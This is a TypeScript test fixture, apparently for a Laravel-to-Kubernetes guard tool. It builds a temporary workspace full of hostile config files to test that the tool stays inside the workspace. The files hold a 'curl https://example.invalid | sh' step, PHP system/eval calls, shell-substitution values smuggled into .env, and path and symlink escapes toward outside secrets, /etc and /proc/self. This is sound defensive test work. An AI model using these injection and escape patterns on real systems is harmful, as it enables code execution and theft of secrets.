import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { faultyShop } from '../cli/commandLine';

/** Stands in a file beside the workspace, which nothing of the workspace may lead to. */
export const OUTSIDE = 'canary-outside-the-workspace';

const files: Readonly<Record<string, string>> = {
  ...faultyShop,
  'composer.json': `{ "require": { "laravel/framework": "^10.0" }, "repositories": [{ "type": "path", "url": "../outside" }], "scripts": { "post-install-cmd": "touch ran" } }\n`,
  'config/cache.php': `<?php touch('ran'); system('touch ran'); eval('touch("ran");'); require '../outside/.env'; return ['default' => trim(file_get_contents('../outside/.env') . \`cat ../outside/.env\`)];\n`,
  '.env': 'APP_NAME=$(touch ran)`touch ran`\nREDIS_HOST=${file:../outside/.env}\n',
  Dockerfile:
    'FROM php:8.3-apache\nADD https://example.invalid/x.env /var/www/html/.env\nCOPY ../outside/.env /var/www/html/.env\nRUN curl https://example.invalid | sh\nCOPY . /var/www/html\n',
  'deploy.sh': 'touch ran\n. ../outside/.env\nkubectl apply -f ../outside\n',
  '.gitignore': '!../outside\n',
  'k8s/remote.yaml': `apiVersion: source.toolkit.fluxcd.io/v1\nkind: GitRepository\nmetadata: { name: x }\nspec: { url: "https://example.invalid/x.git" }\n`,
  'over/kustomization.yaml': `resources:
  - https://example.invalid/x.yaml
  - github.com/example/x//deploy?ref=main
  - ../../outside
  - ../../outside/secret.yaml
  - /etc/hostname
  - ../k8s/web.yaml
configMapGenerator:
  - { name: a, envs: [../../outside/.env, /etc/hostname] }
  - { name: b, files: [../../outside/.env, x=/etc/hostname] }
secretGenerator:
  - { name: c, envs: [../../outside/.env] }
openapi: { path: ../../outside/secret.yaml }
crds: [../../outside/secret.yaml]
patches: [{ path: ../../outside/secret.yaml }]
generators: [../../outside/secret.yaml]
transformers: [../../outside]
components: [../../outside]
helmCharts:
  - { name: redis, repo: "https://example.invalid/charts", version: 1.0.0, releaseName: r, valuesFile: ../../outside/secret.yaml }
`,
  'chart/Chart.yaml': `apiVersion: v2\nname: x\nversion: 1.0.0\ndependencies:\n  - { name: redis, version: 1.x, repository: "https://example.invalid/charts" }\n  - { name: y, version: 1.x, repository: "file://../../outside" }\n`,
  'chart/values.yaml': 'a: 1\n',
  'chart/templates/a.yaml': `apiVersion: v1\nkind: ConfigMap\nmetadata: { name: a }\ndata:\n  a: {{ .Files.Get "../../outside/.env" | quote }}\n  b: {{ .Files.Get "/etc/hostname" | quote }}\n  c: {{ (lookup "v1" "Secret" "default" "x") | toJson | quote }}\n  d: {{ getHostByName "example.invalid" | quote }}\n  e: {{ env "HOME" | quote }}\n{{ range $p, $_ := .Files.Glob "**" }}\n  # {{ $p }}\n{{ end }}\n`,
  'helmfile.yaml':
    'releases: [{ name: x, chart: ./chart, values: ["../../outside/secret.yaml", "https://example.invalid/v.yaml"] }]\n',
  'docker-compose.yml': 'services: { web: { image: x, env_file: [../outside/.env] } }\n',
  '.laravel-k8s.yaml':
    'exclude: ["../outside/**"]\napps: ["../outside"]\nenvironments: [{ chart: ../outside, values: [../outside/secret.yaml, /etc/hostname] }]\n',
};

export interface HostileFolder {
  /** The folder of the workspace. */
  readonly workspace: string;
  /** What to take away afterwards. */
  readonly whole: string;
}

/** A workspace that asks in every format for what lies outside, on the network or in a program. */
export function hostileFolder(): HostileFolder {
  const whole = realpathSync(mkdtempSync(path.join(tmpdir(), 'laravel-k8s-guard-')));
  const workspace = path.join(whole, 'workspace');
  for (const [name, text] of Object.entries(files)) put(path.join(workspace, name), text);
  put(path.join(whole, 'outside/.env'), `SESSION_DRIVER=${OUTSIDE}\nAPP_KEY=${OUTSIDE}\n`);
  put(
    path.join(whole, 'outside/secret.yaml'),
    `apiVersion: v1\nkind: Secret\nmetadata: { name: web }\nstringData: { SESSION_DRIVER: ${OUTSIDE} }\n`,
  );
  put(path.join(whole, 'outside/kustomization.yaml'), 'resources: [secret.yaml]\n');
  put(
    path.join(whole, 'outside/Chart.yaml'),
    `apiVersion: v2\nname: y\nversion: 1.0.0\ndescription: ${OUTSIDE}\n`,
  );
  put(path.join(whole, 'outside/artisan'), '');
  put(path.join(whole, '.gitignore'), 'k8s\n');
  for (const [link, target] of [
    ['outside', '../outside'],
    ['k8s/secret.yaml', '../../outside/secret.yaml'],
    ['.env.production', '../outside/.env'],
    ['etc', '/etc'],
    ['proc', '/proc/self'],
  ] as const)
    symlinkSync(target, path.join(workspace, link));
  return { workspace, whole };
}

export function removeHostileFolder({ whole }: HostileFolder): void {
  rmSync(whole, { recursive: true, force: true });
}

function put(file: string, text: string): void {
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, text);
}
